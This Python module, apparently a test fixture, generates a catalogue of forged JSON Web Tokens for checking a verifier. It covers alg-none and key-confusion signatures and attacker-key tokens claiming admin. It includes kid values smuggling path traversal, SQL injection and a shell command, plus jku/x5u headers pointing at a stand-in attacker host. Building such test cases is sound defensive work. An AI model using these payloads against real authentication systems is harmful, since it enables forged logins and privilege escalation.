"""What somebody without our key can make of an honest token."""

import hashlib
import hmac
from collections.abc import Mapping
from typing import Any

from cryptography.hazmat.primitives import hashes
from cryptography.hazmat.primitives.asymmetric import ec, ed25519, rsa

from demo.forgery.honest import EVIL, Honest, base64, escaped, public_jwk, respelled, rs256, segment

_NOT_UTF8 = b'{"iss":"\xff"}'
_DEEP = (b'{"x":' + b"[" * 2000)[:2800]


def by_strangers(honest: Honest) -> dict[str, str]:
    """Return what somebody without our key can make of ``honest``, by name."""
    key = rsa.generate_private_key(public_exponent=65537, key_size=2048)
    return _of_algorithms(honest) | _of_keys(honest, key) | _of_shapes(honest)


def _of_algorithms(honest: Honest) -> dict[str, str]:
    header, body, signature = honest.header, honest.parts[1], honest.parts[2]
    kid = str(header["kid"])
    curve = ec.generate_private_key(ec.SECP256R1())
    edwards = ed25519.Ed25519PrivateKey.generate()

    def named(alg: Any, signature: str) -> str:
        return f"{segment({**header, 'alg': alg})}.{body}.{signature}"

    def hs256(secret: bytes, alg: str = "HS256") -> str:
        signed = named(alg, "")[:-1].encode()
        return named(alg, base64(hmac.new(secret, signed, hashlib.sha256).digest()))

    def es256(alg: str) -> str:
        return named(alg, base64(curve.sign(named(alg, "")[:-1].encode(), ec.ECDSA(hashes.SHA256()))))

    return {
        "alg none, empty signature": named("none", ""),
        "alg None in capitals": named("NoNe", ""),
        "alg none, a signature kept": named("none", signature),
        "alg HS256 with the public PEM": hs256(honest.pem),
        "alg HS256 with the modulus": hs256(public_jwk(honest.public, kid)["n"].encode()),
        "alg HS256 with an empty secret": hs256(b""),
        "alg HS256 with kid as secret": hs256(kid.encode()),
        "an HMAC that says RS256": hs256(honest.pem, "RS256"),
        "alg ES256 by a new key": es256("ES256"),
        "ECDSA that says RS256": es256("RS256"),
        "alg EdDSA": named("EdDSA", base64(edwards.sign(named("EdDSA", "")[:-1].encode()))),
    }


def _of_keys(honest: Honest, key: rsa.RSAPrivateKey) -> dict[str, str]:
    kid = str(honest.header["kid"])
    mine = public_jwk(key.public_key(), kid)

    def signed(claims: Mapping[str, Any] | None = None, **header: Any) -> str:
        return rs256({**honest.header, **header}, {**honest.claims, **(claims or {})}, key)

    return {
        "another key, our kid": signed(),
        "another key, the bearer an administrator": signed({"roles": ["user", "admin"]}),
        "kid unknown": signed(kid="nobody"),
        "kid a path": signed(kid="../../../../dev/null"),
        "kid SQL": signed(kid="x' UNION SELECT 'key'--"),
        "kid a shell command": signed(kid=f"{kid}|sleep 5"),
        "kid an address": signed(kid=f"{EVIL}/key"),
        "kid with a zero byte": signed(kid=f"{kid}\x00"),
        "jwk of the forger": signed(jwk=mine),
        "jku of the forger": signed(jku=f"{EVIL}/jwks.json"),
        "x5u of the forger": signed(x5u=f"{EVIL}/cert.pem"),
        "x5c of the forger": signed(x5c=["MIIB"]),
    }


def _of_shapes(honest: Honest) -> dict[str, str]:
    (head, body, signature), token = honest.parts, honest.token
    other = segment({**honest.claims, "sub": "someone"})
    return {
        "nothing": "",
        "one segment": head,
        "two segments": f"{head}.{body}",
        "four segments": f"{token}.{signature}",
        "five segments (JWE)": f"{head}.{body}.{body}.{body}.{signature}",
        "empty header": f".{body}.{signature}",
        "empty claims": f"{head}..{signature}",
        "empty signature": f"{head}.{body}.",
        "claims twice": f"{head}.{body}.{body}.{signature}",
        "dots alone": "..",
        "header not JSON": f"{base64(b'RS256')}.{body}.{signature}",
        "padding": f"{token}==",
        "padded claims": f"{head}.{body}=.{signature}",
        "standard alphabet": f"{head}.{body}.{signature.translate({45: 43, 95: 47})}",
        "characters as JSON escapes them": f"{head}.{body}.{escaped(signature[:4])}{signature[4:]}",
        "spare bits of the signature set": f"{head}.{body}.{respelled(signature)}",
        "white space inside": f"{head}.{body}.{signature[:5]} {signature[5:]}",
        "line break at the end": token + "\n",
        "signature of other claims": f"{head}.{other}.{signature}",
        "signature cut": token[:-4],
        "signature of zeros": f"{head}.{body}.{base64(bytes(256))}",
        "signature one": f"{head}.{body}.{base64(bytes(255) + bytes([1]))}",
        "signature doubled": f"{head}.{body}.{signature}{signature}",
        "not ASCII": token.replace("e", "\u0435", 1),
        "a lone surrogate": token + "\udc80",
        "claims that are not UTF-8": f"{head}.{base64(_NOT_UTF8)}.{signature}",
        "deep header": f"{base64(_DEEP)}.{body}.{signature}",
        "deep unknown claim": f"{head}.{base64(_DEEP)}.{signature}",
        "deep claims": f"{head}.{base64(b'[' * 2000)}.{signature}",
    }
